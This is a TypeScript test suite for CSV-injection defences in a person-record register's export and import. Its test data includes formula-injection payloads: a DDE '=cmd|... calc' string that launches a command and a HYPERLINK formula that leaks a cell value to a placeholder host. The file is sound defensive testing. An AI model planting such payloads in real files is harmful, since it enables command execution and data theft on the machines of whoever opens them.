import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import type { ExportedPerson } from '../../src/app/export.ts'
import { csvField, csvLine, neutraliseCsvText, parseCsv, restoreCsvText } from '../../src/io/csv.ts'
import { csvLayout, csvRow, exportHeader, exportText } from '../../src/io/people-format.ts'

// CSV injection (ASVS 1.2.10): no cell the register writes starts with a
// character a spreadsheet reads as the start of a formula, and the import
// reads an export back exactly.

const formulaLead = /^[=+\-@\t\r]/
const seed = 20_260_501

/** Text that starts like a formula more often than chance would have it. */
const cellText = fc.oneof(
  fc.string(),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''=", "'+"), fc.string()).map(([a, b]) => a + b),
)

describe('CSV written by the register is safe to open in a spreadsheet', () => {
  test('a cell that would start a formula is written with an apostrophe before it', () => {
    assert.equal(csvField('=1+1'), "'=1+1")
    assert.equal(csvField('=HYPERLINK("http://example.test","x")'), `"'=HYPERLINK(""http://example.test"",""x"")"`)
    assert.equal(csvField('+44 7700 900123'), "'+44 7700 900123")
    assert.equal(csvField('-2+3'), "'-2+3")
    assert.equal(csvField('@SUM(A1:A9)'), "'@SUM(A1:A9)")
    assert.equal(csvField('\t=1'), "'\t=1")
    assert.equal(csvField('\r=1'), `"'\r=1"`)
    // Text that is already neutralised gets one more apostrophe, so reading back is exact.
    assert.equal(csvField("'=1"), "''=1")
    // Harmless text, and numbers (which cannot be formulas), are written as they are.
    assert.equal(csvField("O'Brien"), "O'Brien")
    assert.equal(csvField('a=b'), 'a=b')
    assert.equal(csvField(-5), '-5')
    assert.equal(csvField(true), 'true')
  })

  test('no parsed cell starts a formula, and every cell reads back as it was written (fast-check)', () => {
    fc.assert(
      // At least two cells: a line of one empty cell is a blank line, which the reader skips by design.
      fc.property(fc.array(cellText, { minLength: 2, maxLength: 6 }), (values) => {
        const fields = parseCsv(csvLine(values))[0]?.fields ?? []
        assert.equal(fields.length, values.length)
        for (const field of fields) assert.ok(!formulaLead.test(field), JSON.stringify(field))
        assert.deepEqual(fields.map(restoreCsvText), values)
      }),
      { seed, numRuns: 2000 },
    )
  })

  test('neutralising is undone exactly, and only where it was done', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        assert.equal(restoreCsvText(neutraliseCsvText(text)), text)
        if (!/^'*[=+\-@\t\r]/.test(text)) assert.equal(neutraliseCsvText(text), text)
      }),
      { seed, numRuns: 2000 },
    )
  })

  test('`dasr export --format csv` neutralises every column, and the import reads the file back unchanged', () => {
    const person: ExportedPerson = {
      reference: '=cmd|" /C calc"!A0',
      managingOrganisationId: 'police:test-shire',
      status: '@status',
      familyName: '=HYPERLINK("http://example.test?leak="&A1,"click")',
      givenNames: '+Jane',
      dateOfBirth: '1980-01-01',
      niNumber: '-QQ',
      sex: '\tfemale',
      riskLevel: "'=already",
      facts: [],
    }
    const file = exportHeader('csv') + exportText([person], 'csv')
    const [header, row] = parseCsv(file)
    assert.ok(header !== undefined && row !== undefined)
    for (const field of row.fields) assert.ok(!formulaLead.test(field), `cell ${JSON.stringify(field)}`)
    const { layout } = csvLayout(header)
    assert.ok(layout !== undefined)
    const imported = csvRow(layout, row)
    assert.ok('record' in imported && imported.record !== undefined)
    for (const column of ['familyName', 'givenNames', 'niNumber', 'sex', 'riskLevel', 'status'] as const) {
      assert.equal(imported.record[column], person[column], column)
    }
  })
})
